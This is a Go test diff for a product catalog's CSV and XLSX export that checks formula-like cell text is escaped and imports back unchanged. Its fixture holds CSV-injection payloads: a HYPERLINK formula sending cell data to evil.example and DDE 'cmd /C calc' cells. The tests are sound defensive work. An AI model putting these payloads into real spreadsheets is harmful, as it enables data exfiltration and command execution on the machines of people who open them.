@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/csv"
 	"errors"
+	"path/filepath"
 	"reflect"
 	"strings"
 	"testing"
@@ -503,5 +504,119 @@ func TestParseProductsCSVCountsEmptyLinesAsRows(t *testing.T) {
 				t.Errorf("row errors = %+v, want one on row %d", ie.Rows, tt.row)
 			}
 		})
+	}
+}
+
+// formulaCatalog is a catalog whose text cells a spreadsheet would run as
+// formulas if they were written as they are.
+func formulaCatalog() Catalog {
+	return Catalog{
+		Producers: []Producer{{ID: "P1", Name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"HTX Ong mật\")", Kind: KindHTX,
+			Address: "-2+3", Phone: "+84 912 345 678", Commune: "@SUM(1+1)", Province: "'=already quoted"}},
+		Products: []Product{{SKU: "MO-1", Name: "=HYPERLINK(\"http://evil.example\",\"Mật ong\")", NameEN: "+cmd|' /C calc'!A0",
+			Group: GroupFood, Stars: 5, CertNo: "@SUM(1+1)", ProducerID: "P1", Unit: "-2+3", Price: 220000, VATRate: 8, Stock: 4,
+			Description: "=1+1\nthơm hoa tràm", DescriptionEN: "'+not a formula", Image: "'plain apostrophe"}},
+		Lots: []Lot{{SKU: "MO-1", Code: "-L1", Origin: "=cmd|' /C calc'!A0", Certifications: []string{"@VietGAP", "hữu cơ"}, Quantity: 3}},
+	}
+}
+
+func TestCatalogCSVExportWritesNoCellASpreadsheetRunsAsAFormula(t *testing.T) {
+	c := formulaCatalog()
+	for kind, write := range map[string]func(*bytes.Buffer) error{
+		FileProducers: func(b *bytes.Buffer) error { return WriteProducersCSV(b, c.Producers) },
+		FileProducts:  func(b *bytes.Buffer) error { return WriteProductsCSV(b, c.Products) },
+		FileLots:      func(b *bytes.Buffer) error { return WriteLotsCSV(b, c.Lots) },
+	} {
+		var b bytes.Buffer
+		if err := write(&b); err != nil {
+			t.Fatal(err)
+		}
+		recs, err := csv.NewReader(&b).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, rec := range recs[1:] {
+			for i, cell := range rec {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s: column %d is %q, which a spreadsheet runs as a formula", kind, i, cell)
+				}
+			}
+		}
+	}
+}
+
+func TestCatalogCSVExportImportsBackAsItWas(t *testing.T) {
+	c := formulaCatalog()
+	var b bytes.Buffer
+	if err := WriteProducersCSV(&b, c.Producers); err != nil {
+		t.Fatal(err)
+	}
+	ps, err := ParseProducersCSV(&b)
+	if err != nil || !reflect.DeepEqual(ps, c.Producers) {
+		t.Errorf("producers after export and import (%v):\n got %+v\nwant %+v", err, ps, c.Producers)
+	}
+	b.Reset()
+	if err := WriteProductsCSV(&b, c.Products); err != nil {
+		t.Fatal(err)
+	}
+	pr, err := ParseProductsCSV(&b)
+	if err != nil || !reflect.DeepEqual(pr.Products, c.Products) {
+		t.Errorf("products after export and import (%v):\n got %+v\nwant %+v", err, pr.Products, c.Products)
+	}
+	b.Reset()
+	if err := WriteLotsCSV(&b, c.Lots); err != nil {
+		t.Fatal(err)
+	}
+	lr, err := ParseLotsCSV(&b)
+	if err != nil || !reflect.DeepEqual(lr.Lots, c.Lots) {
+		t.Errorf("lots after export and import (%v):\n got %+v\nwant %+v", err, lr.Lots, c.Lots)
+	}
+}
+
+func TestSpreadsheetTextEscapeIsUndoneExactly(t *testing.T) {
+	for _, tt := range []struct{ in, cell string }{
+		{"Mật ong", "Mật ong"},
+		{"", ""},
+		{"=1+1", "'=1+1"},
+		{"+84 912", "'+84 912"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\t=1", "'\t=1"},
+		{"\r=1", "'\r=1"},
+		{"'=1", "''=1"},  // an apostrophe of its own before a formula is kept
+		{"''x", "'''x"},  // and before another apostrophe
+		{"'abc", "'abc"}, // one before ordinary text needs nothing
+		{"a=1", "a=1"},
+	} {
+		if got := SpreadsheetText(tt.in); got != tt.cell {
+			t.Errorf("SpreadsheetText(%q) = %q, want %q", tt.in, got, tt.cell)
+		}
+		if got := FromSpreadsheetText(tt.cell); got != tt.in {
+			t.Errorf("FromSpreadsheetText(%q) = %q, want %q", tt.cell, got, tt.in)
+		}
+	}
+}
+
+func TestCatalogWorkbookHoldsFormulaLikeTextAsTextAndImportsBack(t *testing.T) {
+	s, err := Open(filepath.Join(t.TempDir(), "k.db"), StoreOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer s.Close()
+	c := formulaCatalog()
+	if err := s.PutCatalog(c, "test"); err != nil {
+		t.Fatal(err)
+	}
+	var b bytes.Buffer
+	if err := s.WriteCatalogXLSX(&b); err != nil {
+		t.Fatal(err)
+	}
+	got, err := ParseCatalogXLSX("", &b)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(got.Producers, c.Producers) || !reflect.DeepEqual(got.Products, c.Products) || !reflect.DeepEqual(got.Lots, c.Lots) {
+		t.Errorf("workbook round trip:\n got %+v\n     %+v\n     %+v\nwant %+v\n     %+v\n     %+v",
+			got.Producers, got.Products, got.Lots, c.Producers, c.Products, c.Lots)
 	}
 }
